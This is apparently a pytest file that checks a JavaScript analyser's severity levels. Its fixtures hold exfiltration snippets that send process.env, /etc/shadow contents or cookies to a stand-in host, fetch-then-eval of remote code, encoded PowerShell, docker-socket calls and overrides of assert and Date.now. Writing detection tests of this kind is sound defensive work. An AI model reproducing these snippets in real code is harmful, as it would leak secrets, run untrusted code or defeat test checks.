"""The levels of acts in JavaScript: HIGH for what honest programs hardly do, LOW for what they do daily."""

from __future__ import annotations

import pytest

from engine.analysis import analyse
from engine.models import Language, Level

_SECRETS = ("JSON.stringify(process.env)", "fs.readFileSync('/etc/shadow')", "document.cookie")
_SENDERS = (
    "fetch('https://x.example', {{ method: 'POST', body: {} }})",
    "axios.post('https://x.example', {})",
    "require('https').request({{ hostname: 'x.example', method: 'POST' }}).end({})",
    "navigator.sendBeacon('https://x.example', {})",
    "new Image().src = 'https://x.example/p.png?' + {}",
    "require('dns').resolve({} + '.x.example', f)",
    "require('net').connect(1, 'x.example').write({})",
    "fetch('https://x.example', {{ headers: {{ a: JSON.stringify(process.env) }}, body: {} }})",
)
_GRAVE = (
    "eval(text)",
    "require('vm').runInNewContext(text, {})",
    "new Function('return ' + text)()",
    "fetch(u).then(r => r.text()).then(eval)",
    "console.log(process.env)",
    "Date.now = () => 0",
    "const assert = require('assert'); assert.equal = () => {}",
    "require('http').request({ socketPath: '/var/run/docker.sock', method: 'POST' })",
    "require('child_process').execSync('git remote add x https://x.example/r.git')",
    "require('child_process').spawn('powershell', ['-enc', 'SQBFAFgA'])",
    "process.setuid(0)",
)
_ORDINARY = (
    "require('fs').writeFileSync('out.json', JSON.stringify({ a: 1 }))",
    "fetch('https://api.example.org/v1').then(r => r.json())",
    "(async () => (await require('axios').get('https://api.example.org')).data)()",
    "require('child_process').execSync('git status')",
    "require('child_process').execFileSync('git', ['rev-parse', 'HEAD'])",
    "fetch('https://api.example.org', { headers: { Authorization: `Bearer ${process.env.API_KEY}` } })",
    "require('child_process').spawn('ls', [], { env: { ...process.env, LANG: 'C' } }); 1",
    "require('fs').createReadStream('a.txt').pipe(require('fs').createWriteStream('b.txt'))",
    "const port = process.env.PORT || 3000",
)


def _worst(code: str) -> Level:
    found = analyse(code, Language.JAVASCRIPT).violations
    return max((one.severity for one in found), key=lambda level: level.rank, default=Level.LOW)


@pytest.mark.parametrize("secret", _SECRETS)
@pytest.mark.parametrize("sender", _SENDERS)
def test_a_secret_that_is_sent_is_grave_whatever_carries_it(secret: str, sender: str) -> None:
    """Every source of secrets to every sink."""
    assert _worst("const fs = require('fs'), axios = require('axios');" + sender.format(secret)) is Level.HIGH


@pytest.mark.parametrize("code", _GRAVE)
def test_what_honest_programs_hardly_do_is_grave(code: str) -> None:
    """Dynamic code, the whole environment, replaced clocks, another repository."""
    assert _worst(code).rank >= Level.HIGH.rank


@pytest.mark.parametrize("code", _ORDINARY)
def test_ordinary_capability_is_low(code: str) -> None:
    """Its own files, one request with its key, git status, a copy of the environment for a child."""
    assert _worst(code).rank <= (Level.MEDIUM if "spawn('ls'" in code else Level.LOW).rank
